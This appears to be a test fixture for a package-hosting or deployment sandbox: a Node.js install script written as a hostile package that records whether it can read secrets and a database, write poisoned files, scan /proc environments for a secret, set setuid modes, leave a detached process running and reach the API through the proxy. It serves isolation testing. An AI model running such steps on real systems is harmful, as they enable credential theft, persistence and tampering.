/** The install script of a hostile package. It tries to read, write, connect and stay, and writes down the results. */
const { spawn } = require("node:child_process");
const fs = require("node:fs");
const http = require("node:http");
const net = require("node:net");
const path = require("node:path");

const { home, own, url, secret, seconds } = JSON.parse(fs.readFileSync(path.join(__dirname, "target.json"), "utf8"));
const found = { uid: process.getuid(), node: process.version };
const attempt = (name, work) => {
  try {
    found[name] = work() ?? "done";
  } catch (error) {
    found[name] = `refused ${error.code}`;
  }
};
attempt("secret", () => fs.readFileSync(path.join(home, "secret"), "latin1"));
attempt("database", () => fs.readFileSync(path.join(home, "platform.sqlite"), "latin1").slice(0, 20));
attempt("other", () => String(fs.readdirSync(path.join(home, "deployments", "other", "scratch"))));
attempt("downloads", () => fs.writeFileSync(path.join(home, "downloads", "poison"), ""));
attempt("packages", () => fs.writeFileSync(path.join(home, "packages", "poison"), ""));
attempt("npmrc", () => fs.writeFileSync(path.join(own, ".npmrc-poison"), ""));
attempt("root", () => fs.writeFileSync("/poison-of-a-script", ""));
found.environ = "none of the server's";
for (const pid of fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
  try {
    if (fs.readFileSync(`/proc/${pid}/environ`, "latin1").includes(secret)) found.environ = "the server's";
  } catch {
    // The process belongs to another user.
  }
}
// Files with modes that an owner may leave behind.
fs.writeFileSync(path.join(__dirname, "program"), "#!/bin/sh\n");
fs.chmodSync(path.join(__dirname, "program"), 0o6777);
fs.chmodSync(__dirname, 0o777);
// Starts a process that leaves its group twice, without its environment.
const lasting = ["-c", `sleep 3; exec sleep ${seconds}`];
spawn("/usr/bin/setsid", ["-f", "/bin/sh", ...lasting], { env: {}, detached: true, stdio: "ignore" }).unref();

const done = () => fs.writeFileSync(path.join(__dirname, "found.json"), JSON.stringify(found));
const throughProxy = () => {
  const { hostname, port, username, password } = new URL(process.env.HTTP_PROXY);
  const authorization = `Basic ${Buffer.from(`${username}:${password}`).toString("base64")}`;
  const headers = { "proxy-authorization": authorization };
  // An agent of its own, because Node.js would use the proxy for this request too.
  const agent = new http.Agent();
  const request = http.request({ host: hostname, port, path: `${url}/api/deployments`, headers, agent });
  request.once("response", (response) => {
    found.proxied = response.statusCode;
    response.resume();
    done();
  });
  request.once("error", (error) => {
    found.proxied = error.code;
    done();
  });
  request.end();
};
const { hostname, port } = new URL(url);
const socket = net.connect(Number(port), hostname);
socket.once("connect", () => {
  found.direct = "connected";
  socket.destroy();
});
socket.once("error", (error) => (found.direct = `refused ${error.code}`));
socket.once("close", throughProxy);
